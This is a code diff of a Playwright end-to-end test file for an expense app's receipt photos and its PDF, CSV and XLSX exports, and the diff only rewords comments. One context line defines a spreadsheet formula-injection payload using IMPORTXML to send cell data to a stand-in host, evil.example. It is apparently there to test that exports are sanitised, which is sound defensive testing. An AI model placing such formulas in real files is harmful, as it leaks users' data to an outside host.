@@ -13,7 +13,7 @@ import { receiptPhoto } from '../../../e2e/receipt.ts';
 
 const receiptOf = (buffer: Buffer) => ({ name: 'IMG_4058.jpg', mimeType: 'image/jpeg', buffer });
 
-/** Drags a file from the desktop of the person over a place of the page and lets it go. */
+/** Drags a file from the desktop over part of the page and drops it. */
 async function drop(page: Page, target: Locator, bytes: Buffer): Promise<void> {
   const transfer = await page.evaluateHandle((base64) => {
     const transfer = new DataTransfer();
@@ -24,7 +24,7 @@ async function drop(page: Page, target: Locator, bytes: Buffer): Promise<void> {
   for (const type of ['dragover', 'drop']) await target.dispatchEvent(type, { dataTransfer: transfer });
 }
 
-/** The photo as it lies in Drive, found by the link in its row. */
+/** The photo as it is stored in Drive, found by the link in its row. */
 async function readStoredPhoto(page: Page, name: string): Promise<Buffer> {
   const address = await page.getByRole('link', { name, exact: true }).getAttribute('href');
   return await storedAt(page, address);
@@ -35,7 +35,7 @@ async function storedAt(page: Page, address: string | null): Promise<Buffer> {
   return await (await callWorkspace(page, `/drive/v3/files/${id}?alt=media`)).body();
 }
 
-/** All about a report that has three rows and two photos, as files that are saved. */
+/** A whole report with three rows and two photos, saved as files. */
 async function packed(page: Page): Promise<void> {
   await page.getByRole('button', { name: 'Export' }).click();
   await page.getByRole('menuitem', { name: 'Receipt pack: PDF and photos' }).click();
@@ -147,7 +147,7 @@ test('a receipt is taken with the camera while the expense is added @phone', asy
 
 const hostile = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
 
-/** Chooses an export and gives the file that the browser saved. */
+/** Chooses an export and returns the file that the browser saved. */
 async function exportAs(page: Page, format: 'CSV' | 'XLSX'): Promise<{ name: string; bytes: Buffer }> {
   await page.getByRole('button', { name: 'Export' }).click();
   const started = page.waitForEvent('download');
